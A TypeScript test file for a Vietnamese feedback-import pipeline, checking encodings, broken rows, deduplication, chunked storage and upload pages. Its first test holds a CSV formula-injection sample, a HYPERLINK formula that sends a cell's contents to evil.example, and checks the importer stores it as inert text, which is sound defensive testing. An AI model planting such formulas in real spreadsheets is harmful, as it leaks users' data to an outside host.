import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import writeXlsxFile from 'write-excel-file/node';
import { getImport } from '../../src/db/queries/imports.ts';
import { ImportFileError, type ImportRecord } from '../../src/domain/feedback-import.ts';
import { importFeedback, type ImportDeps } from '../../src/pipeline/import-feedback.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { createTestDatabase, type TestDatabase } from '../helpers/test-database.ts';
import { toWindows1258 } from '../helpers/windows-1258.ts';

let database: TestDatabase;
let t: TestApp;
let deps: ImportDeps;
let importer: TestApp['importer'];
let staff: string;
let leader: string;
let userId: number;
let sourceCounter = 0;

beforeAll(async () => {
  database = await createTestDatabase();
  t = createTestApp(database);
  deps = { db: database.db, classifiers: t.pipeline.classifiers };
  importer = t.importer;
  staff = await t.signIn('staff');
  leader = await t.signIn('leader');
  const [user] = await rows<{ id: number }>(sql`select id from users order by id limit 1`);
  userId = user!.id;
});
afterAll(async () => {
  await importer?.idle();
  await t?.close();
  await database?.close();
});

function newSourceName(): string {
  sourceCounter += 1;
  return `Nguồn thử ${sourceCounter}`;
}

async function rows<T>(query: ReturnType<typeof sql>): Promise<T[]> {
  const result = (await database.db.execute(query)) as unknown as { rows?: T[] } | T[];
  return Array.isArray(result) ? result : (result.rows ?? []);
}

async function storedItems(sourceName: string) {
  return rows<{ title: string; body: string; author: string | null; published_at: string | Date | null; labels: string[]; classification: unknown }>(
    sql`select i.title, i.body, i.author, i.published_at, i.labels, i.classification
        from items i join sources s on s.id = i.source_id where s.name = ${sourceName} order by i.id`,
  );
}

const mapping = { content: 0, author: 1, date: 2 };

describe('importFeedback', () => {
  it('stores formula-looking cells (=, +, -, @) as plain text, never evaluated', async () => {
    const sourceName = newSourceName();
    const csv = [
      'Nội dung,Người gửi,Ngày',
      '"=HYPERLINK(""http://evil.example/?q=""&A1,""Bấm vào đây"")",Lan,01/03/2024',
      '+84 912 345 678 gọi phản ánh học phí,Minh,02/03/2024',
      '-Trường thu quỹ lớp quá cao,Hoa,2024-03-03',
      '@cô giáo chủ nhiệm xin trả lời,Tú,2024-03-04T08:15:00+07:00',
    ].join('\r\n');
    const summary = await importFeedback(deps, { sourceName, filename: 'formulas.csv', bytes: Buffer.from(csv), mapping, userId });
    expect(summary).toMatchObject({ status: 'done', stored: 4, skipped: 0, errors: [] });
    const items = await storedItems(sourceName);
    expect(items.map((item) => item.body)).toEqual([
      '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
      '+84 912 345 678 gọi phản ánh học phí',
      '-Trường thu quỹ lớp quá cao',
      '@cô giáo chủ nhiệm xin trả lời',
    ]);
    expect(new Date(items[0]!.published_at!).toISOString()).toBe('2024-02-29T17:00:00.000Z');
    expect(new Date(items[3]!.published_at!).toISOString()).toBe('2024-03-04T01:15:00.000Z');
    // Classified as comments (the classifier ran and recorded its version).
    expect(items[0]!.classification).toMatchObject({ version: expect.any(String) });
  });

  it('heads an item with the opinion\'s first words when the file has no title column', async () => {
    const sourceName = newSourceName();
    const long = `Đề nghị nhà trường công khai các khoản thu đầu năm học ${'và giải thích rõ từng khoản '.repeat(6)}`;
    const csv = ['Nội dung,Người gửi,Ngày', `Phụ huynh phản ánh quỹ lớp thu quá cao,Lan,01/03/2024`, `"${long}",Minh,02/03/2024`].join('\r\n');
    const summary = await importFeedback(deps, { sourceName, filename: 'untitled.csv', bytes: Buffer.from(csv), mapping, userId });
    expect(summary).toMatchObject({ status: 'done', stored: 2, errors: [] });
    const items = await storedItems(sourceName);
    expect(items[0]!.title).toBe('Phụ huynh phản ánh quỹ lớp thu quá cao');
    expect([...items[1]!.title]).toHaveLength(80);
    expect(items[1]!.title.startsWith('Đề nghị nhà trường công khai các khoản thu')).toBe(true);
    expect(items[1]!.title.endsWith('…')).toBe(true);
  });

  it('imports a windows-1258 CSV as NFC Vietnamese', async () => {
    const sourceName = newSourceName();
    const text = 'Nội dung;Người gửi;Ngày\nPhụ huynh phản ánh thu tiền học thêm trái phép;Nguyễn Thị Hoà;15/04/2024\n';
    const summary = await importFeedback(deps, { sourceName, filename: 'cu.csv', bytes: toWindows1258(text), mapping, userId });
    expect(summary).toMatchObject({ status: 'done', stored: 1 });
    const [item] = await storedItems(sourceName);
    expect(item!.body).toBe('Phụ huynh phản ánh thu tiền học thêm trái phép');
    expect(item!.body).toBe(item!.body.normalize('NFC'));
    expect(item!.author).toBe('Nguyễn Thị Hòa'); // tone placement unified
  });

  it('imports a UTF-16 CSV (tab-separated, as Excel saves "Unicode text")', async () => {
    const sourceName = newSourceName();
    const text = 'Nội dung\tNgười gửi\tNgày\nĐề nghị tăng cường an toàn cổng trường\tBác Tư\t20/05/2024\n';
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const summary = await importFeedback(deps, { sourceName, filename: 'unicode.txt', bytes, mapping, userId });
    expect(summary).toMatchObject({ status: 'done', stored: 1 });
    expect((await storedItems(sourceName))[0]!.body).toBe('Đề nghị tăng cường an toàn cổng trường');
  });

  it('reports broken rows by line number and imports the others', async () => {
    const sourceName = newSourceName();
    const csv = [
      'Nội dung,Người gửi,Ngày', // 1
      'Ý kiến tốt,An,01/02/2024', // 2
      ',Bình,01/02/2024', // 3: no content
      'Ngày sai,Chi,31/02/2024', // 4: no 31 February
      '"Nội dung ""có"" ngoặc, và dấu phẩy\nnhiều dòng",Dũng,03/02/2024', // 5–6
      'Quá nhiều ô,Em,03/02/2024,thừa', // 7
      `${'x'.repeat(20_001)},Giang,03/02/2024`, // 8: too long
      'Ngày tương lai,Hà,01/01/2999', // 9
      'Cuối cùng,Khoa,', // 10
    ].join('\n');
    const summary = await importFeedback(deps, { sourceName, filename: 'broken.csv', bytes: Buffer.from(csv), mapping, userId });
    expect(summary.status).toBe('done');
    expect(summary.stored).toBe(3);
    expect(summary.errors.map((error) => [error.line, error.code, error.field])).toEqual([
      [3, 'content_required', 'content'],
      [4, 'invalid_date', 'date'],
      [7, 'field_count', undefined],
      [8, 'too_long', 'content'],
      [9, 'date_out_of_range', 'date'],
    ]);
    expect((await storedItems(sourceName)).map((item) => item.body)).toEqual([
      'Ý kiến tốt',
      'Nội dung "có" ngoặc, và dấu phẩy\nnhiều dòng',
      'Cuối cùng',
    ]);
    const record = await getImport(database.db, summary.importId);
    expect(record).toMatchObject({ status: 'done', totalRows: 8, processedRows: 8, stored: 3, skipped: 0 });
    expect(record!.errors).toHaveLength(5);
  });

  it('refuses rows with damaged UTF-8 by line and keeps the rest of a mostly-UTF-8 file', async () => {
    const sourceName = newSourceName();
    const good = (n: number) => Buffer.from(`Ý kiến số ${n} về học phí,Người ${n},01/02/2024\n`);
    const bytes = Buffer.concat([
      Buffer.from('Nội dung,Người gửi,Ngày\n'),
      good(1),
      good(2),
      Buffer.concat([Buffer.from('Tr'), Buffer.from([0xf0]), Buffer.from('ng h'), Buffer.from([0xf2]), Buffer.from('c,X,01/02/2024\n')]),
      good(3),
      good(4),
    ]);
    const preview = await importer.preview({ filename: 'mixed.csv', bytes });
    expect(preview).toMatchObject({ encoding: 'utf-8', encodingNote: 'utf8_with_errors', invalidSequences: 2 });
    const summary = await importFeedback(deps, { sourceName, filename: 'mixed.csv', bytes, mapping, userId });
    expect(summary).toMatchObject({ status: 'done', stored: 4 });
    expect(summary.errors).toMatchObject([{ line: 4, field: 'content', code: 'invalid_encoding' }]);
  });

  it('skips a row repeated within the file and rows an earlier import already stored', async () => {
    const sourceName = newSourceName();
    const csv = 'Nội dung,Người gửi,Ngày\nTrùng lặp,An,01/02/2024\nKhác,Bình,01/02/2024\nTrùng   lặp,An,01/02/2024\nTrùng lặp,Người khác,01/02/2024\n';
    const first = await importFeedback(deps, { sourceName, filename: 'a.csv', bytes: Buffer.from(csv), mapping, userId });
    expect(first).toMatchObject({ status: 'done', stored: 3, skipped: 1 });
    const again = await importFeedback(deps, { sourceName, filename: 'a.csv', bytes: Buffer.from(csv), mapping, userId });
    expect(again).toMatchObject({ status: 'done', stored: 0, skipped: 4 });
    expect(await storedItems(sourceName)).toHaveLength(3);
  });

  async function withFailingTrigger(body: string, run: () => Promise<void>): Promise<void> {
    await database.db.execute(sql.raw(`
      create or replace function test_fail_on_boom() returns trigger language plpgsql as $$
      begin
        if new.body = '${body}' then raise exception 'disk full (test)'; end if;
        return new;
      end $$`));
    await database.db.execute(sql.raw('drop trigger if exists test_fail_on_boom on items'));
    await database.db.execute(
      sql.raw('create trigger test_fail_on_boom before insert on items for each row execute function test_fail_on_boom()'),
    );
    try {
      await run();
    } finally {
      await database.db.execute(sql.raw('drop trigger if exists test_fail_on_boom on items'));
    }
  }

  async function storedCounts(sourceName: string) {
    // xmin is the transaction that wrote the row: distinct values count the transactions used.
    const [counts] = await rows<{ items: number; keys: number; transactions: number }>(
      sql`select count(*)::int as items, count(distinct i.key_hash)::int as keys, count(distinct i.xmin::text)::int as transactions
          from items i join sources s on s.id = i.source_id where s.name = ${sourceName}`,
    );
    return counts!;
  }

  it('keeps the chunks stored before a failure, says how many, and a second run stores the rest', async () => {
    const sourceName = newSourceName();
    const lines = ['Nội dung,Người gửi,Ngày'];
    for (let i = 1; i <= 2_000; i++) lines.push(i === 1_700 ? 'BOOM,X,01/02/2024' : `Ý kiến ${i},Người ${i},01/02/2024`);
    const request = { sourceName, filename: 'boom.csv', bytes: Buffer.from(lines.join('\n')), mapping, userId };
    await withFailingTrigger('BOOM', async () => {
      const summary = await importFeedback(deps, request);
      // Stored in chunks of STORE_CHUNK_ROWS (250): rows 1–1,500 committed before the chunk holding BOOM failed.
      expect(summary).toMatchObject({ status: 'failed', processedRows: 2_000, stored: 1_500, skipped: 0 });
      expect(summary.errors.at(-1)).toMatchObject({ line: 0, code: 'storage_failed' });
      expect(summary.errors.at(-1)!.message).toContain('after 1500 rows were stored, 500 left to store: ');
      expect(summary.errors.at(-1)!.message).toContain('disk full (test)');
      expect(summary.errors.at(-1)!.message).toContain('again');
      expect(await storedItems(sourceName)).toHaveLength(1_500);
      expect(await getImport(database.db, summary.importId)).toMatchObject({ status: 'failed', stored: 1_500, finishedAt: expect.any(Date) });
    });
    const again = await importFeedback(deps, request);
    expect(again).toMatchObject({ status: 'done', stored: 500, skipped: 1_500, errors: [] });
    expect(await storedCounts(sourceName)).toMatchObject({ items: 2_000, keys: 2_000 });
  });

  it('stores in several short transactions with a small chunk size, and a failed chunk can be stored by running again', async () => {
    const small: ImportDeps = { ...deps, storeChunkRows: 7 };
    const sourceName = newSourceName();
    const csv = (failAt: number | null) => {
      const lines = ['Nội dung,Người gửi,Ngày'];
      for (let i = 1; i <= 30; i++) lines.push(`${i === failAt ? 'HỎNG' : `Góp ý ${i}`},Người ${i},01/02/2024`);
      lines.push('Góp ý 3,Người 3,01/02/2024'); // repeated within the file
      return Buffer.from(lines.join('\n'));
    };
    // In both sources an earlier import stored rows 1 and 2.
    const firstTwo = Buffer.from('Nội dung,Người gửi,Ngày\nGóp ý 1,Người 1,01/02/2024\nGóp ý 2,Người 2,01/02/2024\n');
    const complete = newSourceName();
    for (const name of [sourceName, complete]) {
      expect(await importFeedback(small, { sourceName: name, filename: 'dau.csv', bytes: firstTwo, mapping, userId })).toMatchObject({ stored: 2 });
    }

    // (a) 28 new rows in chunks of 7: four transactions, every row stored once.
    const whole = await importFeedback(small, { sourceName: complete, filename: 'du.csv', bytes: csv(null), mapping, userId });
    expect(whole).toMatchObject({ status: 'done', totalRows: 31, processedRows: 31, stored: 28, skipped: 3, errors: [] });
    expect(await storedCounts(complete)).toEqual({ items: 30, keys: 30, transactions: 1 + 4 });
    expect(await getImport(database.db, whole.importId)).toMatchObject({ status: 'done', processedRows: 31, stored: 28, skipped: 3 });

    // (b) Row 20 (the third chunk: new rows 17–23) fails: the first two chunks stay stored.
    await withFailingTrigger('HỎNG', async () => {
      const failed = await importFeedback(small, { sourceName, filename: 'du.csv', bytes: csv(20), mapping, userId });
      expect(failed).toMatchObject({ status: 'failed', processedRows: 31, stored: 14, skipped: 3 });
      expect(failed.errors).toEqual([
        { line: 0, code: 'storage_failed', message: expect.stringContaining('storing stopped after 14 rows were stored, 14 left to store') },
      ]);
      expect(failed.errors[0]!.message).toContain('Import the same file into the same source again to store the rest');
      expect(await getImport(database.db, failed.importId)).toMatchObject({ status: 'failed', stored: 14, processedRows: 31 });
      expect(await storedCounts(sourceName)).toEqual({ items: 2 + 14, keys: 16, transactions: 1 + 2 });
    });

    // Running the same file again (the fault gone) stores the other 14, duplicating nothing.
    const rerun = await importFeedback(small, { sourceName, filename: 'du.csv', bytes: csv(20), mapping, userId });
    expect(rerun).toMatchObject({ status: 'done', stored: 14, skipped: 2 + 14 + 1, errors: [] });
    expect((await storedCounts(sourceName)).items).toBe(30);
    expect((await storedCounts(sourceName)).keys).toBe(30);
    expect((await storedItems(sourceName)).map((item) => item.body).sort()).toEqual(
      Array.from({ length: 30 }, (_, i) => (i + 1 === 20 ? 'HỎNG' : `Góp ý ${i + 1}`)).sort(),
    );
  });

  it('answers other queries between the chunks it stores', async () => {
    const events: string[] = [];
    let seen: { status: string; stored: number } | undefined;
    const watched = new Proxy(database.db, {
      get(target, property, receiver) {
        if (property !== 'transaction') return Reflect.get(target, property, receiver);
        return async (run: (tx: unknown) => Promise<unknown>) => {
          events.push('transaction');
          // The first transaction finds or creates the import source; the third stores the second chunk.
          if (events.filter((event) => event === 'transaction').length === 3) {
            // Another request (the progress page) arrives while the second chunk is being stored.
            void rows<{ status: string; stored: number }>(sql`select status, stored from imports order by id desc limit 1`).then(([row]) => {
              seen = row;
              events.push('other request answered');
            });
          }
          return target.transaction(run as Parameters<typeof target.transaction>[0]);
        };
      },
    });
    const lines = ['Nội dung,Người gửi,Ngày'];
    for (let i = 1; i <= 40; i++) lines.push(`Câu hỏi ${i},Người ${i},01/02/2024`);
    const summary = await importFeedback(
      { ...deps, db: watched, storeChunkRows: 10 },
      { sourceName: newSourceName(), filename: 'xen.csv', bytes: Buffer.from(lines.join('\n')), mapping, userId },
    );
    expect(summary).toMatchObject({ status: 'done', stored: 40 });
    // findOrCreateImportSource's transaction, then four chunks of ten.
    expect(events.filter((event) => event === 'transaction')).toHaveLength(1 + 4);
    // The request waited for that chunk only: it was answered before the third chunk began, and saw
    // the progress of storing (the first chunk's ten rows).
    expect(events).toEqual(['transaction', 'transaction', 'transaction', 'other request answered', 'transaction', 'transaction']);
    expect(seen).toEqual({ status: 'running', stored: 10 });
  });

  it('imports an .xlsx built with the spreadsheet library, date cells included', async () => {
    const sourceName = newSourceName();
    const bytes = await writeXlsxFile([
      [{ value: 'Thời gian' }, { value: 'Họ tên' }, { value: 'Ý kiến' }, { value: 'Kênh' }],
      [{ value: new Date(Date.UTC(2024, 4, 2, 9, 0)), format: 'dd/mm/yyyy hh:mm' }, { value: 'Trần Văn B' }, { value: 'Cổng trường ùn tắc giờ tan học' }, { value: 'Zalo' }],
      [{ value: '03/05/2024' }, { value: 'Lê Thị C' }, { value: '=HYPERLINK("http://x","y")' }, { value: 'Đường dây nóng' }],
    ]).toBuffer();
    const preview = await importer.preview({ filename: 'form.xlsx', bytes });
    expect(preview).toMatchObject({ format: 'xlsx', suggestedMapping: { date: 0, author: 1, content: 2, channel: 3 } });
    const summary = await importFeedback(deps, {
      sourceName,
      filename: 'form.xlsx',
      bytes,
      mapping: { date: 0, author: 1, content: 2, channel: 3 },
      userId,
    });
    expect(summary).toMatchObject({ status: 'done', stored: 2, errors: [] });
    const items = await storedItems(sourceName);
    expect(items.map((item) => [item.title, item.body, item.author])).toEqual([
      ['Zalo: Cổng trường ùn tắc giờ tan học', 'Cổng trường ùn tắc giờ tan học', 'Trần Văn B'],
      ['Đường dây nóng: =HYPERLINK("http://x","y")', '=HYPERLINK("http://x","y")', 'Lê Thị C'],
    ]);
    expect(new Date(items[0]!.published_at!).toISOString()).toBe('2024-05-02T02:00:00.000Z');
  });

  it('refuses a file that is neither CSV nor XLSX with a clear error and records nothing', async () => {
    const before = await rows<{ count: number }>(sql`select count(*)::int as count from imports`);
    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from([0, 1, 2, 3, 0xff, 0xfe])]);
    await expect(importFeedback(deps, { filename: 'bao-cao.csv', bytes: pdf, mapping, userId })).rejects.toSatisfy(
      (error: unknown) => error instanceof ImportFileError && error.code === 'unsupported_format',
    );
    expect(await rows<{ count: number }>(sql`select count(*)::int as count from imports`)).toEqual(before);
  });

  it('imports a 50,000-row file completely, writing progress as it goes', async () => {
    const sourceName = newSourceName();
    const lines = ['Nội dung,Người gửi,Ngày,Kênh'];
    for (let i = 1; i <= 50_000; i++) {
      lines.push(`"Phụ huynh lớp ${i % 40} phản ánh số ${i}: học phí, quỹ lớp và xe đưa đón",Người gửi ${i},${String((i % 28) + 1).padStart(2, '0')}/03/2024,Zalo`);
    }
    const bytes = Buffer.from(lines.join('\n'));
    const started = performance.now();
    const { importId } = await importer.start({ sourceName, filename: 'lon.csv', bytes, mapping: { ...mapping, channel: 3 }, userId });
    const seen = new Set<number>();
    let record: ImportRecord | null = null;
    for (;;) {
      record = await getImport(database.db, importId);
      if (record && (record.status === 'running' || record.status === 'pending')) seen.add(record.processedRows);
      if (record && (record.status === 'done' || record.status === 'failed')) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    const seconds = (performance.now() - started) / 1000;
    console.info(`import: 50,000 rows in ${seconds.toFixed(1)} s (${Math.round(50_000 / seconds)} rows/s), ${seen.size} progress readings`);
    expect(record).toMatchObject({ status: 'done', totalRows: 50_000, processedRows: 50_000, stored: 50_000, skipped: 0, errors: [] });
    // The page saw the bar move: several distinct values between 0 and the end.
    expect([...seen].filter((value) => value > 0 && value < 50_000).length).toBeGreaterThanOrEqual(3);
    const [count] = await rows<{ count: number }>(sql`select count(*)::int as count from items i join sources s on s.id = i.source_id where s.name = ${sourceName}`);
    expect(count!.count).toBe(50_000);
  }, 300_000);
});

describe('import routes', () => {
  const csv = 'Tiêu đề,Nội dung,Người gửi,Ngày gửi\nHọc phí,Học phí năm nay tăng quá cao,Lan,01/02/2024\nAn toàn,Cổng trường đông xe,Minh,02/02/2024\n';

  async function waitFor(id: number, cookie: string): Promise<Record<string, unknown>> {
    for (;;) {
      const body = (await (await t.request(`/api/imports/${id}`, { cookie })).json()) as Record<string, unknown>;
      if (body.status === 'done' || body.status === 'failed') return body;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  it('previews a JSON upload: encoding, delimiter, headers, first rows and a suggested mapping', async () => {
    const response = await t.request('/api/imports/preview', {
      cookie: staff,
      json: { filename: 'y-kien.csv', contentBase64: Buffer.from(csv).toString('base64') },
    });
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({
      format: 'csv',
      encoding: 'utf-8',
      delimiter: ',',
      headers: ['Tiêu đề', 'Nội dung', 'Người gửi', 'Ngày gửi'],
      rows: [{ line: 2, cells: ['Học phí', 'Học phí năm nay tăng quá cao', 'Lan', '01/02/2024'] }, { line: 3 }],
      totalRows: 2,
      suggestedMapping: { title: 0, content: 1, author: 2, date: 3 },
    });
  });

  it('starts an import with 202 and reports its progress and outcome', async () => {
    const response = await t.request('/api/imports', {
      cookie: staff,
      json: {
        filename: 'y-kien.csv',
        contentBase64: Buffer.from(csv).toString('base64'),
        mapping: { title: 0, content: 1, author: 2, date: 3 },
        sourceName: 'Biểu mẫu MTTQ',
      },
    });
    expect(response.status).toBe(202);
    const { id } = (await response.json()) as { id: number };
    expect(await waitFor(id, staff)).toMatchObject({ status: 'done', stored: 2, sourceName: 'Biểu mẫu MTTQ', errors: [] });
  });

  it('answers a file that is neither CSV nor XLSX with 422 and the reason', async () => {
    const response = await t.request('/api/imports/preview', {
      cookie: staff,
      json: { filename: 'anh.png', contentBase64: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]).toString('base64') },
    });
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ error: { code: 'validation_failed', details: [{ code: 'unsupported_format' }] } });
  });

  it('refuses a mapping without content, and leaders altogether', async () => {
    const noContent = await t.request('/api/imports', {
      cookie: staff,
      json: { filename: 'a.csv', contentBase64: Buffer.from(csv).toString('base64'), mapping: { title: 0 } },
    });
    expect(noContent.status).toBe(422);
    const asLeader = await t.request('/api/imports/preview', { cookie: leader, json: { filename: 'a.csv', contentBase64: 'YQ==' } });
    expect(asLeader.status).toBe(403);
    expect((await t.request('/imports', { cookie: leader })).status).toBe(403);
    expect((await t.request('/api/imports/1', {})).status).toBe(401);
  });

  it('walks the pages: upload form, preview with mapping, start, progress with errors', async () => {
    const upload = await t.request('/imports', { cookie: staff });
    expect(upload.status).toBe(200);
    expect(await upload.text()).toContain('enctype="multipart/form-data"');

    const form = new FormData();
    form.set('file', new File([Buffer.from(`${csv}Không có nội dung,,Ai đó,03/02/2024\n`)], 'so-duong-day-nong.csv', { type: 'text/csv' }));
    form.set('sourceName', 'Đường dây nóng');
    const preview = await t.request('/imports/preview', { method: 'POST', cookie: staff, body: form });
    expect(preview.status).toBe(200);
    const previewHtml = await preview.text();
    expect(previewHtml).toContain('Học phí năm nay tăng quá cao');
    expect(previewHtml).toContain('name="map_content"');
    const token = /name="token" value="([^"]+)"/.exec(previewHtml)?.[1];
    expect(token).toBeTruthy();

    const start = await t.request('/imports', {
      method: 'POST',
      cookie: staff,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ token: token!, sourceName: 'Đường dây nóng', map_content: '1', map_title: '0', map_author: '2', map_date: '3', map_channel: '' }).toString(),
    });
    expect(start.status).toBe(303);
    const location = start.headers.get('location')!;
    expect(location).toMatch(/^\/imports\/\d+$/);
    await importer.idle();
    const page = await t.request(location, { cookie: staff });
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain('<progress');
    expect(html).not.toContain('http-equiv="refresh"');
    expect(html).toContain('Đã nhập xong');
    expect(html).toContain('Thiếu nội dung.');

    // The token is spent: posting it again asks for the file again.
    const again = await t.request('/imports', {
      method: 'POST',
      cookie: staff,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ token: token!, map_content: '1' }).toString(),
    });
    expect(again.status).toBe(422);
    expect(await again.text()).toContain('Bản xem trước đã hết hạn');
  });

  it('shows a running import with a progress bar and a meta refresh, no script', async () => {
    const id = await insertRunningImport();
    const html = await (await t.request(`/imports/${id}`, { cookie: staff })).text();
    expect(html).toContain('<meta http-equiv="refresh" content="2"');
    expect(html).toMatch(/<progress[^>]*max="100"[^>]*value="40"/);
    // The count is written once: the bar refers to the line that says it, rather than repeating it.
    expect(html.split('Đã xử lý 40/100 dòng').length - 1).toBe(1);
    expect(html).toMatch(/<progress[^>]*aria-describedby="import-progress-count"/);
    expect(html).toMatch(/<p id="import-progress-count"[^>]*>Đã xử lý 40\/100 dòng/);
    expect(html).not.toMatch(/<script(?![^>]*src="\/static\/app\.js")/);
  });

  it('sends a reload or bookmark of the preview address back to the upload form', async () => {
    const response = await t.request('/imports/preview', { cookie: staff });
    expect(response.status).toBe(303);
    expect(response.headers.get('location')).toBe('/imports');
  });

  it('shows a clear error on the upload page for an unreadable file', async () => {
    const form = new FormData();
    form.set('file', new File([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])], 'cu.xls'));
    const response = await t.request('/imports/preview', { method: 'POST', cookie: staff, body: form });
    expect(response.status).toBe(422);
    expect(await response.text()).toContain('Tệp Excel cũ (.xls) chưa được hỗ trợ');
  });
});

async function insertRunningImport(): Promise<number> {
  const [source] = await rows<{ id: number }>(sql`insert into sources (kind, name) values ('import', 'Đang chạy') returning id`);
  const [created] = await rows<{ id: number }>(
    sql`insert into imports (source_id, filename, status, total_rows, processed_rows) values (${source!.id}, 'dang-chay.csv', 'running', 100, 40) returning id`,
  );
  return created!.id;
}
